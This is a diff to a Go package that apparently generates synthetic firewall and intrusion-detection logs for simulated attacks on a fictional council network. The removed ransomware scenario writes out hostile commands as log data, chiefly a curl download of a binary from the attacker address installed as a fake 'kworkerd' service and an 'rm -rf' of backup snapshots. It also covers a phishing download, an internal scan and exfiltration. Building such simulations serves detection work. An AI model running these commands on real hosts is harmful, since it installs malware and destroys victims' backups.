@@ -2,39 +2,18 @@ package gen
 
 import "strconv"
 
-// newAttack returns the lines of an attack, ready in a queue of their own. Their chance is a stream of its own: ordinary life does not
-// change by them.
-func newAttack(c *council, cfg Config) *queue {
-	a := &attack{
-		c: c, r: newRNG(cfg.Seed, "attack "+string(cfg.Attack)+" "+c.name), q: newQueue(),
-		day: cfg.Start.UnixNano() + int64(cfg.AttackDay-1)*day,
-	}
-	switch cfg.Attack {
-	case Quiet:
-	case Ransomware:
-		a.ransomware()
-	case BruteForce:
-		a.bruteForce()
-	case DNSTunnel:
-		a.dnsTunnel()
-	case Insider:
-		a.insider()
-	case Webshell:
-		a.webshell()
-	}
-	return a.q
-}
-
 // An attack writes the lines of one.
 type attack struct {
 	c   *council
 	r   rng
 	q   *queue
 	day int64 // midnight before it
+
+	silent []silence
 }
 
 // step names the part of the attack that the next lines belong to.
-func (a *attack) step(name string) { a.q.step = name }
+func (a *attack) step(name string) { a.q.mark.step = name }
 
 // victim is a member of staff whose machine or account is taken.
 func (a *attack) victim() *user { return &a.c.users[a.r.IntN(len(a.c.users)/3)] }
@@ -82,68 +61,59 @@ func (a *attack) login(at int64, s *server, u *user, from addr, commands []strin
 	a.q.put(at, s.ended(a.q.buf(), at, "sshd", pid, "sshd", u.login))
 }
 
-// ransomware: a mail's link in the morning, a beacon, a look around, an administrator's account, persistence, and theft at night.
-func (a *attack) ransomware() {
-	c, r, u := a.c, a.r, a.victim()
-	dst, where := a.lair()
-	at := a.day + 8*hour + r.Int64N(90*minute)
+// between draws a moment of the attack's first day.
+func (a *attack) between(from, to int64) int64 { return a.day + from + a.r.Int64N(to-from) }
 
-	a.step("phish")
-	site := website{
-		name: "docs-" + pick(r, webWords) + "share.top", org: "none", addrs: []addr{dst + 1}, country: where,
-		category: &categories[16], app: &applications[1], median: 900_000,
+// beyond is a connection from inside to a named host outside: the question for its name now and then, the handshake, the session.
+func (a *attack) beyond(at int64, src addr, u *user, dst addr, where *country, name string, port uint16, seconds, sent, rcvd float64) {
+	r := a.r
+	if name != "" && r.chance(0.2) {
+		at = a.c.resolve(a.q, r, at, src, name, "A", dst)
 	}
-	f := flow{src: u.ip, sport: r.ephemeral(), dst: dst + 1, dport: 80, proto: 6, policy: polInternet, service: "HTTP", user: u, from: "Reserved", to: where.name, sent: 512}
-	at = c.resolve(a.q, r, at, u.ip, site.name, "A", dst+1)
-	a.q.put(at, c.fgt.web(a.q.buf(), r, at, &f, site.name, "/d/remittance_0603.zip", site.category, false))
-	w := wire{src: u.ip, sport: f.sport, dst: dst + 1, dport: 80, proto: "TCP", id: flowID(r)}
-	at += second
-	a.q.put(at, eveHTTP(a.q.buf(), at, &w, site.name, "/d/remittance_0603.zip", u.agent, "application/zip", "GET", 200, 913_442))
-	f.action, f.seconds, f.rcvd, f.app, f.nat = "close", 3, 921_004, site.app, c.public
-	c.finish(a.q, r, at, &f, &w, "http", 1)
-
-	a.step("beacon")
-	at += r.span(3*minute, 0.3)
-	a.beacon(at, a.day+19*hour, 7*minute, u.ip, u, dst, where, 8447, "tcp/8447")
-
-	a.step("scan")
-	at = a.day + 13*hour + r.Int64N(hour)
-	for third := range 3 {
-		for host := range 16 {
-			p := flow{
-				src: u.ip, sport: r.ephemeral(), dst: ip(10, c.net, third, 5+host*3), dport: pick(r, []uint16{445, 3389, 22, 5985}), proto: 6,
-				policy: polInside, action: "deny", user: u, mac: u.mac, from: "Reserved", to: "Reserved",
-			}
-			p.service = "tcp/" + strconv.Itoa(int(p.dport))
-			a.q.put(at, c.fgt.traffic(a.q.buf(), r, at, &p))
-			at += r.span(3*second, 0.6)
-		}
+	if name != "" && r.chance(0.3) {
+		w := wire{src: src, sport: r.ephemeral(), dst: dst, dport: port, proto: "TCP", id: flowID(r)}
+		a.q.put(at, eveTLS(a.q.buf(), r, at, &w, name, name))
 	}
-
-	a.step("lateral")
-	admin := pick(r, c.admins)
-	at = a.day + 17*hour + r.Int64N(hour)
-	for _, role := range []string{"fs01", "bak01", "db01"} {
-		a.login(at, c.servers[role], admin, u.ip, nil)
-		at += r.span(9*minute, 0.4)
+	service := "tcp/" + strconv.Itoa(int(port))
+	switch port {
+	case 443:
+		service = "HTTPS"
+	case 25:
+		service = "SMTP"
+	case 21:
+		service = "FTP"
 	}
+	a.call(at, src, u, dst, where, port, service, seconds, sent, rcvd)
+}
 
-	a.step("persist")
-	at = a.day + 22*hour + r.Int64N(40*minute)
-	for _, role := range []string{"fs01", "bak01"} {
-		s := c.servers[role]
-		a.login(at, s, admin, u.ip, []string{
-			"/usr/bin/curl -so /usr/local/sbin/kworkerd http://" + dst.String() + ":8447/k", "/usr/bin/chmod 755 /usr/local/sbin/kworkerd",
-			"/usr/bin/systemctl enable --now kworkerd.service", "/usr/bin/systemctl disable --now restic-backup.timer", "/usr/bin/rm -rf /backup/snapshots",
-		})
-		a.q.put(at+6*minute, s.systemd(a.q.buf(), at+6*minute, "Started kworkerd.service - Kernel worker daemon."))
-		at += r.span(12*minute, 0.3)
+// within writes a connection between two machines inside that the firewall let through, at its end.
+func (a *attack) within(at int64, src addr, u *user, dst addr, port uint16, service string, seconds, sent, rcvd float64) {
+	r := a.r
+	f := flow{
+		src: src, sport: r.ephemeral(), dst: dst, dport: port, proto: 6, policy: polServers, action: "close", service: service, user: u,
+		from: "Reserved", to: "Reserved", seconds: uint64(r.skewed(seconds, 0.4)), sent: uint64(r.skewed(sent, 0.4)), rcvd: uint64(r.skewed(rcvd, 0.4)),
 	}
+	if u != nil {
+		f.mac = u.mac
+	}
+	end := at + int64(f.seconds)*second + r.nanos()
+	a.q.put(end, a.c.fgt.traffic(a.q.buf(), r, end, &f))
+}
 
-	a.step("exfiltrate")
-	at = a.day + 25*hour + 40*minute + r.Int64N(30*minute)
-	for range 9 {
-		a.call(at, c.servers["fs01"].ip, nil, dst, where, 8447, "tcp/8447", 500, 3.1e9, 6e6)
-		at += r.span(10*minute, 0.3)
+// refusal writes a connection between two machines inside that the firewall dropped.
+func (a *attack) refusal(at int64, src addr, u *user, dst addr, port uint16) {
+	f := flow{
+		src: src, sport: a.r.ephemeral(), dst: dst, dport: port, proto: 6, policy: polInside, action: "deny", user: u,
+		service: "tcp/" + strconv.Itoa(int(port)), from: "Reserved", to: "Reserved",
 	}
+	if u != nil {
+		f.mac = u.mac
+	}
+	a.q.put(at, a.c.fgt.traffic(a.q.buf(), a.r, at, &f))
+}
+
+// name makes up a host's name that looks like any other.
+func (a *attack) name() string {
+	s := a.c.web.invent(a.r)
+	return s.name
 }
